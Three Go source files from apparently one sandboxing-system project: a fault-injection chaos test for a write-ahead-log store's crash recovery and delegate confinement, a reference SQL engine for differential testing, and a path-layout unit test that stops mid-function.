// allowedDegradeError reports whether a workload error is a typed,
// expected outcome of a degraded store (invariant 4).
func allowedDegradeError(err error) bool {
	for _, target := range []error{
		fault.ErrInjected, // covers ErrTransient, which wraps it
		wal.ErrBroken,
		wal.ErrBusy,
		health.ErrReadOnly,
		fs.ErrNotExist,
		fs.ErrExist,
	} {
		if errors.Is(err, target) {
			return true
		}
	}
	return false
}

// dmodel is the plain-Go reference state for phase 1: a flat file
// namespace plus the notes table (id -> body|rank) and its allocator.
type dmodel struct {
	files  map[string]string
	notes  map[int64]string
	nextID int64
}

func newDmodel() *dmodel {
	return &dmodel{files: map[string]string{}, notes: map[int64]string{}, nextID: 1}
}

func (m *dmodel) clone() *dmodel {
	c := &dmodel{
		files:  make(map[string]string, len(m.files)),
		notes:  make(map[int64]string, len(m.notes)),
		nextID: m.nextID,
	}
	for k, v := range m.files {
		c.files[k] = v
	}
	for k, v := range m.notes {
		c.notes[k] = v
	}
	return c
}

// degradeTapeOp is one WAL-appended workload op: its LSN, whether it
// was acknowledged durable, and its effect on a model.
type degradeTapeOp struct {
	lsn   uint64
	acked bool
	apply func(m *dmodel)
}

// faultWindow is one armed burst of injected faults.
type faultWindow struct {
	name string
	ops  int // workload ops the window stays armed for
	arm  func(seed int64)
}

func runDegrade(seed int64, opts DegradeOptions, r *Report) {
	st := wal.NewMemStorage()
	env, err := testutil.OpenDurableWith(st, "main", degradeTuning)
	if err != nil {
		r.failf("initial open: %v", err)
		return
	}
	defer func() {
		fault.Disable()
		_ = env.Close()
	}()

	live := newDmodel()
	base := newDmodel()
	var tape []degradeTapeOp
	var maxAcked uint64
	// dataLost marks deliberate byte-level corruption of synced WAL
	// content: the next recovery legitimately comes up short of
	// maxAcked (the disk destroyed acknowledged bytes; scrub's job is
	// to catch it, not to resurrect them).
	dataLost := false

	rngOp := rand.New(rand.NewSource(seed ^ 0x5deece66d))
	rngCrash := rand.New(rand.NewSource(seed*0x9e3779b9 + 1))
	rngWin := rand.New(rand.NewSource(seed*0x85ebca6b + 2))

	// accumulate folds the current armed window's trace into the
	// report before Enable resets it.
	accumulate := func() {
		tr := fault.Trace()
		r.Trace = append(r.Trace, tr...)
		for _, e := range tr {
			if e.Fired {
				r.Fired++
			}
		}
	}
	disarm := func() {
		accumulate()
		fault.Disable()
	}

	windows := []faultWindow{
		{name: "append-transient", ops: 40, arm: func(s int64) {
			fault.Enable(s, fault.Spec{Point: "wal.append.transient", Prob: 0.45, Op: fault.OpTransient})
		}},
		{name: "fsync-transient", ops: 40, arm: func(s int64) {
			fault.Enable(s, fault.Spec{Point: "wal.fsync.transient", Prob: 0.45, Op: fault.OpTransient})
		}},
		{name: "mixed-transient", ops: 50, arm: func(s int64) {
			fault.Enable(s,
				fault.Spec{Point: "wal.append.transient", Prob: 0.25, Op: fault.OpTransient},
				fault.Spec{Point: "wal.fsync.transient", Prob: 0.25, Op: fault.OpTransient},
				fault.Spec{Point: "wal.scrub", Prob: 0.5, Op: fault.OpTransient})
		}},
		{name: "poison", ops: 30, arm: func(s int64) {
			fault.Enable(s,
				fault.Spec{Point: "wal.append", Prob: 0.08, Op: fault.OpPartial},
				fault.Spec{Point: "wal.fsync", Prob: 0.08})
		}},
		{name: "scrub-corrupt", ops: 20, arm: func(s int64) {
			fault.Enable(s, fault.Spec{Point: "wal.scrub", Prob: 0.3, Times: 1})
		}},
	}
	windowLeft := 0 // ops until the current window disarms

	// do runs one tracked workload op. applied must mirror exactly the
	// op's in-memory effect; ops are built so they cannot fail
	// validation (paths exist, ids checked), so the residue rule is
	// uniform: any post-gate error means memory mutated.
	do := func(kind byte, op func() error, applied func(m *dmodel)) {
		r.OpTape = append(r.OpTape, kind)
		r.Ops++
		lsn0 := env.Store.LastLSN()
		wasWritable := env.Store.Writable() && env.Store.Broken() == nil
		err := op()
		lsn1 := env.Store.LastLSN()
		if lsn1 > lsn0+1 {
			r.failf("op %d (%c): appended %d records; engine ops must append at most one", r.Ops, kind, lsn1-lsn0)
			return
		}
		switch {
		case err == nil:
			applied(live)
			if lsn1 == lsn0 {
				r.failf("op %d (%c): acked without appending a WAL record", r.Ops, kind)
				return
			}
			acked := env.Store.LastSynced() >= lsn1
			if !acked {
				r.failf("op %d (%c): acked without a covering sync (no write acked without durability)", r.Ops, kind)
				return
			}
			if !wasWritable {
				r.failf("op %d (%c): acked on an unwritable store", r.Ops, kind)
				return
			}
			tape = append(tape, degradeTapeOp{lsn: lsn1, acked: true, apply: applied})
			if lsn1 > maxAcked {
				maxAcked = lsn1
			}
		case errors.Is(err, health.ErrReadOnly):
			// Gate rejection: strictly pre-mutation, nothing appended.
			if lsn1 != lsn0 {
				r.failf("op %d (%c): ErrReadOnly but a record was appended", r.Ops, kind)
			}
		case allowedDegradeError(err):
			// Post-gate failure: memory mutated (residue), never acked.
			// The record may or may not have reached the log.
			applied(live)
			if lsn1 > lsn0 {
				tape = append(tape, degradeTapeOp{lsn: lsn1, apply: applied})
			}
		default:
			r.failf("op %d (%c): unexpected error: %v", r.Ops, kind, err)
		}
	}

	// verify diffs the live environment against the live model
	// (invariant 2: reads stay consistent throughout degradation).
	verify := func(when string) {
		for name, want := range live.files {
			got, err := vfs.ReadFile(env.FS, vfs.Root, name)
			if err != nil || string(got) != want {
				r.failf("%s: read %s = %q (%v), model %q", when, name, got, err, want)
				return
			}
		}
		rows, err := env.DB.Query("SELECT _id, body, rank FROM notes ORDER BY _id")
		if err != nil {
			r.failf("%s: notes query failed while serving: %v", when, err)
			return
		}
		if len(rows.Data) != len(live.notes) {
			r.failf("%s: notes has %d rows, model %d", when, len(rows.Data), len(live.notes))
			return
		}
		for _, row := range rows.Data {
			id, _ := row[0].(int64)
			got := fmt.Sprintf("%v|%v", row[1], row[2])
			if want, ok := live.notes[id]; !ok || got != want {
				r.failf("%s: note %d = %q, model %q", when, id, got, live.notes[id])
				return
			}
		}
	}

	// readState rebuilds a model from the environment's actual state —
	// only valid right after a clean recovery, and only used when
	// deliberate corruption made the model's history unusable. The probe
	// insert that precedes it pins the auto-ID high-water mark, so
	// nextID = max(_id)+1 is exact.
	readState := func() (*dmodel, error) {
		m := newDmodel()
		if vfs.Exists(env.FS, vfs.Root, "/data") {
			err := vfs.Walk(env.FS, vfs.Root, "/data", func(name string, info vfs.FileInfo) error {
				if info.IsDir() {
					return nil
				}
				data, err := vfs.ReadFile(env.FS, vfs.Root, name)
				if err != nil {
					return err
				}
				m.files[name] = string(data)
				return nil
			})
			if err != nil {
				return nil, err
			}
		}
		rows, err := env.DB.Query("SELECT _id, body, rank FROM notes ORDER BY _id")
		if err != nil {
			return nil, err
		}
		for _, row := range rows.Data {
			id, _ := row[0].(int64)
			m.notes[id] = fmt.Sprintf("%v|%v", row[1], row[2])
			if id >= m.nextID {
				m.nextID = id + 1
			}
		}
		return m, nil
	}

	crash := func(why string) bool {
		r.Kills++
		disarm()
		windowLeft = 0
		st.Crash(func(name string, unsynced int) int {
			return rngCrash.Intn(unsynced + 1)
		})
		if err := env.Reopen(); err != nil {
			r.failf("crash(%s) %d: recovery failed: %v", why, r.Kills, err)
			return false
		}
		recovered := env.Store.RecoveredLSN()
		if env.Store.Health() != health.Healthy {
			r.failf("crash(%s) %d: store reopened %v, want healthy", why, r.Kills, env.Store.Health())
			return false
		}
		if dataLost {
			// Deliberate byte-level corruption destroyed acknowledged
			// records — possibly behind the model's base boundary, which a
			// flat clone cannot rewind past. The invariant under test
			// (scrub detects the loss and poisons) already held; recovery
			// surfaced some consistent durable prefix. Resync the model to
			// it: recreate the workload scaffolding, pin the auto-ID
			// counter with a probe insert, and read the state back.
			if !vfs.Exists(env.FS, vfs.Root, "/data") {
				if err := env.FS.Mkdir(vfs.Root, "/data", 0o755); err != nil {
					r.failf("crash(%s) %d: resync mkdir: %v", why, r.Kills, err)
					return false
				}
			}
			if _, err := env.DB.Query("SELECT _id FROM notes WHERE _id = 0"); err != nil {
				if _, err := env.DB.Exec("CREATE TABLE notes (_id INTEGER PRIMARY KEY, body TEXT, rank INTEGER DEFAULT 0)"); err != nil {
					r.failf("crash(%s) %d: resync schema: %v", why, r.Kills, err)
					return false
				}
			}
			if _, err := env.DB.Exec("INSERT INTO notes (body) VALUES (?)", "resync-probe"); err != nil {
				r.failf("crash(%s) %d: resync probe insert: %v", why, r.Kills, err)
				return false
			}
			m, err := readState()
			if err != nil {
				r.failf("crash(%s) %d: resync read: %v", why, r.Kills, err)
				return false
			}
			base = m
			live = m.clone()
			tape = tape[:0]
			maxAcked = env.Store.LastSynced()
			dataLost = false
			verify(fmt.Sprintf("crash(%s) %d resync", why, r.Kills))
			return len(r.Failures) == 0
		}
		if recovered < maxAcked {
			r.failf("crash(%s) %d: acked LSN %d lost, recovered only to %d", why, r.Kills, maxAcked, recovered)
			return false
		}
		durable := base.clone()
		for _, op := range tape {
			if op.lsn <= recovered {
				op.apply(durable)
			}
		}
		base = durable
		live = durable.clone()
		tape = tape[:0]
		maxAcked = recovered
		verify(fmt.Sprintf("crash(%s) %d", why, r.Kills))
		return len(r.Failures) == 0
	}

	// heal drives Store.Heal and requires it to restore Healthy
	// (invariant 5): the window is disarmed, so nothing may stop it.
	heal := func() bool {
		disarm()
		windowLeft = 0
		if env.Store.Broken() != nil {
			return crash("poisoned")
		}
		if err := env.Store.Heal(); err != nil {
			r.failf("heal: %v (health %v)", err, env.Store.Health())
			return false
		}
		if env.Store.Health() != health.Healthy {
			r.failf("heal returned nil but health is %v", env.Store.Health())
			return false
		}
		// Heal folded residue durably: memory and disk agree again.
		base = live.clone()
		tape = tape[:0]
		maxAcked = env.Store.LastSynced()
		verify("post-heal")
		return len(r.Failures) == 0
	}

	path := func(n int) string { return fmt.Sprintf("/data/f%02d", n) }
	ensure := func() bool {
		if !vfs.Exists(env.FS, vfs.Root, "/data") {
			do('d', func() error { return env.FS.Mkdir(vfs.Root, "/data", 0o755) },
				func(m *dmodel) {})
		}
		if _, err := env.DB.Query("SELECT _id FROM notes WHERE _id = 0"); err != nil {
			do('Q', func() error {
				_, err := env.DB.Exec("CREATE TABLE notes (_id INTEGER PRIMARY KEY, body TEXT, rank INTEGER DEFAULT 0)")
				return err
			}, func(m *dmodel) {})
		}
		return len(r.Failures) == 0
	}
	if !ensure() {
		r.finish()
		return
	}

	// proveWritable is invariant 5's second half: after the store
	// reports Healthy, a write must actually succeed.
	proveWritable := func() {
		body := fmt.Sprintf("prove-%d", r.Ops)
		do('P', func() error {
			_, err := env.DB.Exec("INSERT INTO notes (body) VALUES (?)", body)
			return err
		}, func(m *dmodel) {
			m.notes[m.nextID] = body + "|0"
			m.nextID++
		})
	}

	for i := 0; i < opts.Ops && len(r.Failures) == 0; i++ {
		// Window lifecycle: open a fault window now and then; when one
		// expires, clear the degradation it caused and prove recovery.
		if windowLeft > 0 {
			windowLeft--
			if windowLeft == 0 {
				if !heal() || !ensure() {
					break
				}
				proveWritable()
				continue
			}
		} else if rngWin.Float64() < 0.04 {
			w := windows[rngWin.Intn(len(windows))]
			w.arm(seed + int64(r.Ops))
			windowLeft = w.ops
		}

		// Poisoned: fail-stop until crash recovery. Degraded read-only
		// with no armed window: heal immediately (the maintenance loop's
		// job, driven inline for determinism).
		if env.Store.Broken() != nil {
			// One more op through the poisoned store must fail typed.
			do('x', func() error {
				_, err := env.DB.Exec("INSERT INTO notes (body) VALUES (?)", "poisoned")
				return err
			}, func(m *dmodel) {})
			if !crash("poison") || !ensure() {
				break
			}
			proveWritable()
			continue
		}
		if windowLeft == 0 && env.Store.Health() != health.Healthy {
			if !heal() || !ensure() {
				break
			}
			proveWritable()
			continue
		}

		p := rngOp.Float64()
		switch {
		case p < 0.02: // spontaneous crash
			if !crash("spontaneous") || !ensure() {
				break
			}
		case p < 0.04: // checkpoint
			if err := env.Store.Snapshot(); err != nil && !allowedDegradeError(err) {
				r.failf("op %d: snapshot: %v", r.Ops, err)
			}
		case p < 0.07: // scrub inline (faultable via the armed window)
			if err := env.Store.ScrubOnce(); err != nil && !allowedDegradeError(err) {
				r.failf("op %d: scrub: %v", r.Ops, err)
			}
		case p < 0.08 && windowLeft == 0 && env.Store.LastSynced() > env.Store.RecoveredLSN():
			// Byte-level corruption: chop the WAL's tail behind the
			// store's back. The next scrub must poison (durable record
			// lost); recovery then comes up legitimately short.
			data, err := st.ReadFile("wal")
			if err == nil && len(data) > 8 {
				rewrite2(st, "wal", data[:len(data)-1-rngCrash.Intn(len(data)/2)])
				dataLost = true
				if err := env.Store.ScrubOnce(); !errors.Is(err, wal.ErrBroken) {
					r.failf("op %d: scrub after WAL corruption = %v, want ErrBroken", r.Ops, err)
				}
			}
		case p < 0.38: // file write
			name := path(rngOp.Intn(24))
			data := fmt.Sprintf("d%06d", rngOp.Intn(1_000_000))
			exists := vfs.Exists(env.FS, vfs.Root, name)
			if !exists {
				do('c', func() error {
					h, err := env.FS.Open(vfs.Root, name, vfs.O_WRONLY|vfs.O_CREATE, 0o600)
					if err != nil {
						return err
					}
					return h.Close()
				}, func(m *dmodel) {
					if _, ok := m.files[name]; !ok {
						m.files[name] = ""
					}
				})
				continue
			}
			do('w', func() error {
				h, err := env.FS.Open(vfs.Root, name, vfs.O_WRONLY, 0)
				if err != nil {
					return err
				}
				defer h.Close()
				_, err = h.WriteAt([]byte(data), 0)
				return err
			}, func(m *dmodel) {
				old := m.files[name]
				if len(old) > len(data) {
					m.files[name] = data + old[len(data):]
				} else {
					m.files[name] = data
				}
			})
		case p < 0.44: // file remove (only existing files: no validation errors)
			name := path(rngOp.Intn(24))
			if !vfs.Exists(env.FS, vfs.Root, name) {
				continue
			}
			do('r', func() error { return env.FS.Remove(vfs.Root, name) },
				func(m *dmodel) { delete(m.files, name) })
		case p < 0.70: // insert note
			body := fmt.Sprintf("note-%d", rngOp.Intn(1_000_000))
			rank := int64(rngOp.Intn(100))
			do('I', func() error {
				_, err := env.DB.Exec("INSERT INTO notes (body, rank) VALUES (?, ?)", body, rank)
				return err
			}, func(m *dmodel) {
				m.notes[m.nextID] = fmt.Sprintf("%s|%d", body, rank)
				m.nextID++
			})
		case p < 0.82: // update by id
			id := int64(1 + rngOp.Intn(400))
			rank := int64(rngOp.Intn(100))
			do('U', func() error {
				_, err := env.DB.Exec("UPDATE notes SET rank = ? WHERE _id = ?", rank, id)
				return err
			}, func(m *dmodel) {
				if old, ok := m.notes[id]; ok {
					for j := len(old) - 1; j >= 0; j-- {
						if old[j] == '|' {
							m.notes[id] = fmt.Sprintf("%s|%d", old[:j], rank)
							break
						}
					}
				}
			})
		case p < 0.90: // delete by id
			id := int64(1 + rngOp.Intn(400))
			do('D', func() error {
				_, err := env.DB.Exec("DELETE FROM notes WHERE _id = ?", id)
				return err
			}, func(m *dmodel) { delete(m.notes, id) })
		default: // read probe: reads must serve in every non-poisoned state
			rows, err := env.DB.Query("SELECT COUNT(*) FROM notes")
			if err != nil {
				r.failf("op %d: read failed while store %v: %v", r.Ops, env.Store.Health(), err)
			} else if n, _ := rows.Data[0][0].(int64); int(n) != len(live.notes) {
				r.failf("op %d: COUNT(*) = %d, model %d", r.Ops, n, len(live.notes))
			}
		}

		if r.Ops%50 == 0 {
			verify(fmt.Sprintf("op %d (health %v)", r.Ops, env.Store.Health()))
		}
	}

	// Close out: land the run healthy and verified.
	if len(r.Failures) == 0 {
		accumulate()
		fault.Disable()
		windowLeft = 0
		if env.Store.Broken() != nil {
			crash("final")
		} else if env.Store.Health() != health.Healthy {
			heal()
		}
	}
	if len(r.Failures) == 0 {
		verify("final")
		crash("final-verify")
	}
	// r.finish() would overwrite the accumulated trace with the last
	// window's; the report's Trace/Fired were maintained incrementally.
}

// rewrite2 durably replaces a storage file's contents (corruption
// injection helper; errors are deliberate-ignorable, the scrub check
// that follows is the assertion).
func rewrite2(st *wal.MemStorage, name string, b []byte) {
	f, err := st.Create(name)
	if err != nil {
		return
	}
	f.Write(b)
	f.Sync()
	f.Close()
}

// degradeTuning tightens the store's retry budget for chaos runs: two
// retries, no real sleeping, deterministic speed.
func degradeTuning(cfg *wal.Config) {
	cfg.MaxRetries = 2
	cfg.RetryBackoff = time.Nanosecond
	cfg.RetrySleep = func(time.Duration) {}
}

// degradeApp is the minimal workload app for the confinement phase.
type degradeApp struct{ pkg string }

func (a *degradeApp) Package() string                                 { return a.pkg }
func (a *degradeApp) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }
func (a *degradeApp) OnTransact(ctx *ams.Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	return binder.Parcel{"ok": true}, nil
}

// runDegradeConfinement is phase 2: confinement and admission shedding
// while the durable store degrades beneath a full system (invariant 3,
// plus 2/4/5 at the system boundary).
func runDegradeConfinement(seed int64, r *Report) {
	s, err := core.Boot(core.Options{
		Storage:     wal.NewMemStorage(),
		StoreTuning: degradeTuning,
	})
	if err != nil {
		r.failf("confinement: boot: %v", err)
		return
	}
	defer s.Shutdown()
	defer fault.Disable()

	for _, pkg := range []string{"owner", "editor"} {
		if err := s.Install(&degradeApp{pkg: pkg}, ams.Manifest{
			Package: pkg,
			Filters: []intent.Filter{{Actions: []string{intent.ActionView}}},
		}); err != nil {
			r.failf("confinement: install %s: %v", pkg, err)
			return
		}
	}
	owner, err := s.Launch("owner", intent.Intent{})
	if err != nil {
		r.failf("confinement: launch owner: %v", err)
		return
	}
	if _, err := owner.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "base-word"}); err != nil {
		r.failf("confinement: owner insert: %v", err)
		return
	}
	// The delegate writes through the COW proxy into Vol(owner).
	deleg, err := s.LaunchAsDelegate("editor", "owner", intent.Intent{})
	if err != nil {
		r.failf("confinement: launch delegate: %v", err)
		return
	}
	if _, err := deleg.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "delta-word"}); err != nil {
		r.failf("confinement: delegate insert: %v", err)
		return
	}

	baseWords := func() map[string]bool {
		rows, err := owner.Resolver().Query("content://user_dictionary/words", []string{"word"}, "", "")
		if err != nil {
			r.failf("confinement: base query while %v: %v", s.Health(), err)
			return nil
		}
		out := map[string]bool{}
		for _, row := range rows.Data {
			w, _ := row[0].(string)
			out[w] = true
		}
		return out
	}
	wordSet := func(m map[string]bool) string {
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		return fmt.Sprint(keys)
	}
	cleanBase := baseWords()
	if cleanBase == nil {
		return
	}
	if cleanBase["delta-word"] {
		r.failf("confinement: delegate write leaked into base state while healthy")
		return
	}

	// Degrade: exhaust the retry budget under a burst of transient
	// append faults driven by seeded delegate writes.
	fault.Enable(seed^0x0ddfa17, fault.Spec{Point: "wal.append.transient", Prob: 0.9, Op: fault.OpTransient})
	rng := rand.New(rand.NewSource(seed ^ 0x0ddfa17))
	for i := 0; i < 64 && s.Health() == health.Healthy; i++ {
		_, err := deleg.Resolver().Insert("content://user_dictionary/words",
			provider.Values{"word": fmt.Sprintf("burst-%d-%d", i, rng.Intn(1000))})
		if err != nil && !allowedDegradeError(err) {
			r.failf("confinement: burst insert error not typed: %v", err)
		}
	}
	tr := fault.Trace()
	for _, e := range tr {
		if e.Fired {
			r.Fired++
		}
	}
	r.Trace = append(r.Trace, tr...)
	fault.Disable()
	if s.Health() != health.ReadOnly {
		r.failf("confinement: store did not degrade under fault burst (health %v)", s.Health())
		return
	}

	// Degraded delegate write: rejected with the typed gate error,
	// never redirected into base state.
	if _, err := deleg.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "degraded-word"}); !errors.Is(err, health.ErrReadOnly) {
		r.failf("confinement: degraded delegate insert = %v, want ErrReadOnly", err)
	}
	degradedBase := baseWords()
	if degradedBase == nil {
		return
	}
	if wordSet(degradedBase) != wordSet(cleanBase) {
		r.failf("confinement: base state changed across degradation: %v -> %v",
			wordSet(cleanBase), wordSet(degradedBase))
	}
	// Reads keep serving for both owner and delegate.
	if rows, err := deleg.Resolver().Query("content://user_dictionary/words", []string{"word"}, "", ""); err != nil {
		r.failf("confinement: delegate read while degraded: %v", err)
	} else if len(rows.Data) == 0 {
		r.failf("confinement: delegate view empty while degraded")
	}

	// Admission control sheds write-class transactions at the AMS
	// boundary with the store's typed error; reads are admitted.
	adm := s.AM.EnableAdmissionControl(ams.AdmissionConfig{})
	if _, err := owner.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "shed-me"}); !errors.Is(err, health.ErrReadOnly) {
		r.failf("confinement: admission did not shed the write: %v", err)
	}
	if adm.Rejected() == 0 {
		r.failf("confinement: admission rejected counter did not move")
	}
	if _, err := owner.Resolver().Query("content://user_dictionary/words", nil, "", ""); err != nil {
		r.failf("confinement: admission blocked a read: %v", err)
	}

	// Heal: service resumes end to end (invariant 5).
	if err := s.Store.Heal(); err != nil {
		r.failf("confinement: heal: %v", err)
		return
	}
	if s.Health() != health.Healthy {
		r.failf("confinement: health after heal = %v", s.Health())
		return
	}
	if _, err := deleg.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "healed-word"}); err != nil {
		r.failf("confinement: delegate insert after heal: %v", err)
	}
	healedBase := baseWords()
	if healedBase == nil {
		return
	}
	if healedBase["healed-word"] || healedBase["degraded-word"] || healedBase["delta-word"] {
		r.failf("confinement: delegate words leaked into base state after heal: %v", wordSet(healedBase))
	}
}
