package chaos

import (
	"fmt"
	"sort"
	"strings"

	"maxoid/internal/sqldb"
)

// Ref is the naive reference engine for the differential SQL oracle: a
// map of tables holding plain row slices, operated on by structured
// Ops (no SQL text, no parser — the generator emits both the SQL sent
// to sqldb and the Op applied here, so the two engines share nothing
// but the workload).
//
// Semantics deliberately mirror sqldb's SQLite-flavored rules:
// dynamically typed values, NULL comparisons are never true, cross-type
// ordering NULL < numeric < text, integer primary keys auto-assigned
// from a high-water counter, full-database transaction snapshots.
type Ref struct {
	tables map[string]*refTable
	snap   map[string]*refTable // BEGIN snapshot, nil when autocommitting
}

type refTable struct {
	cols   []string
	rows   [][]sqldb.Value
	nextID int64
}

func (t *refTable) clone() *refTable {
	out := &refTable{cols: t.cols, nextID: t.nextID, rows: make([][]sqldb.Value, len(t.rows))}
	for i, r := range t.rows {
		row := make([]sqldb.Value, len(r))
		copy(row, r)
		out.rows[i] = row
	}
	return out
}

func (t *refTable) colIndex(name string) int {
	for i, c := range t.cols {
		if strings.EqualFold(c, name) {
			return i
		}
	}
	return -1
}

// NewRef creates an empty reference engine.
func NewRef() *Ref {
	return &Ref{tables: make(map[string]*refTable)}
}

// CreateTable declares a table whose first column is the INTEGER
// PRIMARY KEY (the only shape the generator uses).
func (r *Ref) CreateTable(name string, cols []string) {
	r.tables[strings.ToLower(name)] = &refTable{cols: cols, nextID: 1}
}

// Apply executes one structured op, returning the affected-row count
// for mutations. Errors mirror the conditions sqldb rejects (unknown
// table, duplicate primary key, transaction misuse); the oracle only
// compares error presence, not text.
func (r *Ref) Apply(op Op) (int64, error) {
	switch op.Kind {
	case OpBegin:
		if r.snap != nil {
			return 0, fmt.Errorf("ref: nested transaction")
		}
		r.snap = make(map[string]*refTable, len(r.tables))
		for k, t := range r.tables {
			r.snap[k] = t.clone()
		}
		return 0, nil
	case OpCommit:
		if r.snap == nil {
			return 0, fmt.Errorf("ref: commit outside transaction")
		}
		r.snap = nil
		return 0, nil
	case OpRollback:
		if r.snap == nil {
			return 0, fmt.Errorf("ref: rollback outside transaction")
		}
		r.ForceRollback()
		return 0, nil
	}

	t, ok := r.tables[strings.ToLower(op.Table)]
	if !ok {
		return 0, fmt.Errorf("ref: no such table %s", op.Table)
	}
	switch op.Kind {
	case OpInsert:
		return t.insert(op)
	case OpUpdate:
		return t.update(op)
	case OpDelete:
		return t.delete(op)
	}
	return 0, fmt.Errorf("ref: bad op kind %d", op.Kind)
}

// ForceRollback restores the BEGIN snapshot unconditionally — the
// oracle calls it when sqldb's commit was killed by an injected fault
// and rolled itself back.
func (r *Ref) ForceRollback() {
	if r.snap == nil {
		return
	}
	r.tables = r.snap
	r.snap = nil
}

// InTxn reports whether a transaction is open.
func (r *Ref) InTxn() bool { return r.snap != nil }

func (t *refTable) insert(op Op) (int64, error) {
	row := make([]sqldb.Value, len(t.cols))
	for i, c := range op.Cols {
		idx := t.colIndex(c)
		if idx < 0 {
			return 0, fmt.Errorf("ref: no column %s", c)
		}
		row[idx] = op.Vals[i]
	}
	// Primary key assignment mirrors sqldb.insertTable: NULL draws from
	// the high-water counter, explicit keys advance it, duplicates fail.
	if row[0] == nil {
		row[0] = t.nextID
	}
	id, ok := sqldb.AsInt(row[0])
	if !ok {
		return 0, fmt.Errorf("ref: non-integer primary key")
	}
	row[0] = id
	if id >= t.nextID {
		t.nextID = id + 1
	}
	for _, existing := range t.rows {
		if eid, ok := sqldb.AsInt(existing[0]); ok && eid == id {
			return 0, fmt.Errorf("ref: UNIQUE constraint failed")
		}
	}
	t.rows = append(t.rows, row)
	return 1, nil
}

func (t *refTable) update(op Op) (int64, error) {
	idx := make([]int, len(op.Cols))
	for i, c := range op.Cols {
		j := t.colIndex(c)
		if j < 0 {
			return 0, fmt.Errorf("ref: no column %s", c)
		}
		idx[i] = j
	}
	var affected int64
	for _, row := range t.rows {
		if !predMatch(t, row, op.Where) {
			continue
		}
		for i, j := range idx {
			row[j] = op.Vals[i]
		}
		affected++
	}
	return affected, nil
}

func (t *refTable) delete(op Op) (int64, error) {
	kept := t.rows[:0:0]
	var affected int64
	for _, row := range t.rows {
		if predMatch(t, row, op.Where) {
			affected++
			continue
		}
		kept = append(kept, row)
	}
	t.rows = kept
	return affected, nil
}

// Select returns the rows matching op.Where, projected over the full
// column list and sorted by primary key — matching the deterministic
// "SELECT cols FROM t WHERE ... ORDER BY _id" shape the generator
// emits.
func (r *Ref) Select(op Op) ([][]sqldb.Value, error) {
	t, ok := r.tables[strings.ToLower(op.Table)]
	if !ok {
		return nil, fmt.Errorf("ref: no such table %s", op.Table)
	}
	var out [][]sqldb.Value
	for _, row := range t.rows {
		if !predMatch(t, row, op.Where) {
			continue
		}
		cp := make([]sqldb.Value, len(row))
		copy(cp, row)
		out = append(out, cp)
	}
	sort.SliceStable(out, func(i, j int) bool {
		a, _ := sqldb.AsInt(out[i][0])
		b, _ := sqldb.AsInt(out[j][0])
		return a < b
	})
	return out, nil
}

// Dump returns every row of a table ordered by primary key (the
// end-of-run full-state comparison).
func (r *Ref) Dump(table string) [][]sqldb.Value {
	rows, _ := r.Select(Op{Kind: OpSelect, Table: table})
	return rows
}

// predMatch evaluates a WHERE predicate with SQL three-valued logic: a
// comparison against NULL is NULL, and NULL is not true. nil preds
// match everything.
func predMatch(t *refTable, row []sqldb.Value, p *Pred) bool {
	if p == nil {
		return true
	}
	i := t.colIndex(p.Col)
	if i < 0 {
		return false
	}
	v := row[i]
	switch p.Cmp {
	case "IS NULL":
		return v == nil
	case "IS NOT NULL":
		return v != nil
	}
	if v == nil || p.Val == nil {
		return false // comparison with NULL is NULL, which is not true
	}
	c := compareVals(v, p.Val)
	switch p.Cmp {
	case "=":
		return c == 0
	case "!=":
		return c != 0
	case "<":
		return c < 0
	case "<=":
		return c <= 0
	case ">":
		return c > 0
	case ">=":
		return c >= 0
	}
	return false
}

// compareVals mirrors sqldb's cross-type ordering: NULL < numeric <
// text, numerics collapse to their float value.
func compareVals(a, b sqldb.Value) int {
	ra, rb := refRank(a), refRank(b)
	if ra != rb {
		if ra < rb {
			return -1
		}
		return 1
	}
	switch ra {
	case 0:
		return 0
	case 1:
		fa, fb := refFloat(a), refFloat(b)
		switch {
		case fa < fb:
			return -1
		case fa > fb:
			return 1
		}
		return 0
	default:
		return strings.Compare(sqldb.AsString(a), sqldb.AsString(b))
	}
}

func refRank(v sqldb.Value) int {
	switch v.(type) {
	case nil:
		return 0
	case int64, float64:
		return 1
	default:
		return 2
	}
}

func refFloat(v sqldb.Value) float64 {
	switch x := v.(type) {
	case int64:
		return float64(x)
	case float64:
		return x
	}
	return 0
}
