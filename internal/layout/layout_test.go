package layout

import "testing"

func TestAppPaths(t *testing.T) {
	if AppData("com.example") != "/data/data/com.example" {
		t.Errorf("AppData = %s", AppData("com.example"))
	}
	if AppPPriv("com.example") != "/data/data/ppriv/com.example" {
		t.Errorf("AppPPriv = %s", AppPPriv("com.example"))
	}
	if BackAppData("com.example") != "/disk/data/com.example" {
		t.Errorf("BackAppData = %s", BackAppData("com.example"))
	}
}

func TestDelegateBranches(t *testing.T) {
	if DelegateKey("b", "a") != "b-a" {
		t.Errorf("DelegateKey = %s", DelegateKey("b", "a"))
	}
	if BackNPrivBranch("b", "a") != "/disk/npriv/b-a" {
		t.Errorf("BackNPrivBranch = %s", BackNPrivBranch("b", "a"))
	}
	if BackPPrivBranch("b", "a") != "/disk/ppriv/b-a" {
		t.Errorf("BackPPrivBranch = %s", BackPPrivBranch("b", "a"))
	}
}

func TestExternalBranches(t *testing.T) {
	if ExtPubBranch() != "/disk/ext/pub" {
		t.Errorf("ExtPubBranch = %s", ExtPubBranch())
	}
	if ExtTmpBranch("a") != "/disk/ext/a/tmp" {
		t.Errorf("ExtTmpBranch = %s", ExtTmpBranch("a"))
	}
	if ExtPrivBranch("a", "Dropbox") != "/disk/ext/a/data/Dropbox" {
		t.Errorf("ExtPrivBranch = %s", ExtPrivBranch("a", "Dropbox"))
	}
	if ExtDelegatePrivBranch("b", "a", "d") != "/disk/ext/b-a/data/d" {
		t.Errorf("ExtDelegatePrivBranch = %s", ExtDelegatePrivBranch("b", "a", "d"))
	}
}

func TestBackingMaps(t *testing.T) {
	// Volatile backing mirrors the client path under the tmp branch.
	got := VolatileBacking("a", ExtDir+"/Download/f.pdf")
	if got != "/disk/ext/a/tmp/Download/f.pdf" {
		t.Errorf("VolatileBacking = %s", got)
	}
	// Paths not under ExtDir are treated as relative.
